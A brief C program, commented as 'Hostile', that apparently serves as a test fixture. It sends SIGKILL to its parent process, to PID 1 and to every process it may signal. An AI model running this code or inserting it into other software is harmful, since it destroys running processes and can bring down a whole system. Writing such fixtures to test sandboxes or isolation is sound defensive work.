/* Hostile: kills its parent, then every process it may signal. */
#include <signal.h>
#include <unistd.h>

int
main(void)
{
	(void)kill(getppid(), SIGKILL);
	(void)kill(1, SIGKILL);
	/* kill(2): -1 is every process we may signal, but us. */
	(void)kill(-1, SIGKILL);
	return 0;
}
